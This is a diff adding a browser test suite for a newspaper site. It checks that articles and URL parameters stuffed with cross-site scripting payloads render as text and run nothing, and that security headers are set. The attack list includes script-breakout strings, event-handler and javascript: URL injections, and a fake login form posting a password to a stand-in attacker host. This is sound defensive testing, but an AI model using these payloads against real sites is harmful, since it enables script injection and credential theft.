@@ -1,0 +1,87 @@
+// Text from outside never becomes script, however it got in: written by an admin whose account was taken, or
+// imported from an old site.
+import { expect, test } from 'vitest'
+import { demoArticle, publish } from './newsroom.ts'
+import { newspaper, settled, visit, withBrowser } from './visit.ts'
+
+withBrowser()
+
+const attacks = [
+  '<script>window.attacked = 1</script>',
+  '<img src="/no-such-picture.png" onerror="window.attacked = 1">',
+  '<svg onload="window.attacked = 1"><script>window.attacked = 1</script></svg>',
+  '<a href="javascript:window.attacked = 1">read on</a>',
+  '<a href="java&#10;script:window.attacked = 1">read on</a>',
+  '<a href="data:text/html,<script>opener.attacked = 1</script>">read on</a>',
+  '<iframe srcdoc="<script>parent.attacked = 1</script>"></iframe>',
+  '<iframe src="javascript:parent.attacked = 1"></iframe>',
+  '<form action="https://olea.example/steal"><input name="password"><button>go</button></form>',
+  '<style>body { display: none }</style><link rel="stylesheet" href="https://olea.example/x.css">',
+  '<details open ontoggle="window.attacked = 1"><summary>more</summary></details>',
+  '<math><mtext></p><img src=x onerror="window.attacked = 1"></mtext></math>',
+  '<noscript><p title="</noscript><img src=x onerror=window.attacked=1>"></noscript>',
+  '</div></article><script>window.attacked = 1</script>',
+  '<base href="https://olea.example/"><meta http-equiv="refresh" content="0;url=https://olea.example/">',
+  '<p style="position:fixed;inset:0;background:url(https://olea.example/x)" id="content" class="x">text</p>',
+]
+const breakout = '</script><script>window.attacked = 1</script><!--'
+
+test('an article full of attacks shows its text and runs none of them, served and reached by a link', async () => {
+  const { _id, title } = await publish({
+    title: `Attacks ${breakout}`,
+    summary: `In short ${breakout}`,
+    content: `<p>Before the attacks.</p>${attacks.join('\n')}<p>After the attacks.</p>`,
+    category: 'Voices & Perspectives',
+  })
+  const { page, open, faults, close } = await visit()
+  const isAttacked = () => page.evaluate(() => Reflect.has(window, 'attacked'))
+
+  await open(`/article/${_id}`)
+  await settled(page)
+  expect(await page.getByRole('heading', { level: 1 }).innerText()).toBe(title)
+  const main = page.getByRole('main')
+  expect(await main.getByText('Before the attacks.').isVisible()).toBe(true)
+  expect(await main.getByText('After the attacks.').isVisible()).toBe(true)
+  expect(await main.locator('script, style, form, link, base, meta, object, [srcdoc]').count()).toBe(0)
+  expect(await main.locator('a[href^="javascript"], a[href^="data:"], [onerror], [onload]').count()).toBe(0)
+  for (const link of await main.getByRole('link', { name: 'read on' }).all())
+    await link.click({ timeout: 2_000, noWaitAfter: true })
+  expect(page.url()).toBe(`${newspaper.url}/article/${_id}`)
+  expect(await isAttacked()).toBe(false)
+
+  // The same text as data of a navigation, which the browser turns into elements itself.
+  await open('/category/Voices%20%26%20Perspectives')
+  await page.getByRole('main').locator(`a[href="/article/${_id}"]`).first().click()
+  await page.waitForURL(`**/article/${_id}`)
+  await expect.poll(() => main.getByText('After the attacks.').count()).toBe(1)
+  await settled(page)
+  expect(await isAttacked()).toBe(false)
+  // A picture of the text that does not exist is the one fault allowed; policies had nothing to stop.
+  expect(faults.filter((fault) => !fault.startsWith('404 '))).toEqual([])
+  await close()
+})
+
+test.each([
+  ['/search?q=', 'search words'],
+  ['/?lng=en&x=', 'a query nobody asked for'],
+  ['/category/', 'a category that does not exist'],
+  ['/', 'an address that does not exist'],
+])('%s… with a script as %s runs nothing', async (path) => {
+  const { page, close, faults } = await visit()
+  await page.goto(`${path}${encodeURIComponent(`"'>${breakout}<img src=x onerror="window.attacked=1">`)}`)
+  await settled(page)
+  expect(await page.evaluate(() => Reflect.has(window, 'attacked'))).toBe(false)
+  expect(await page.getByRole('heading', { level: 1 }).count()).toBe(1)
+  expect(faults.filter((fault) => /policy|uncaught|hydrat/i.test(fault))).toEqual([])
+  await close()
+})
+
+test('the pages cannot be put into a frame of another site', async () => {
+  const { _id } = await demoArticle()
+  for (const path of ['/', `/article/${_id}`]) {
+    const { headers } = await fetch(`${newspaper.url}${path}`)
+    expect(headers.get('content-security-policy')).toContain("frame-ancestors 'none'")
+    expect(headers.get('content-security-policy')).not.toMatch(/script-src[^;]*unsafe/)
+    expect(headers.get('x-content-type-options')).toBe('nosniff')
+  }
+})
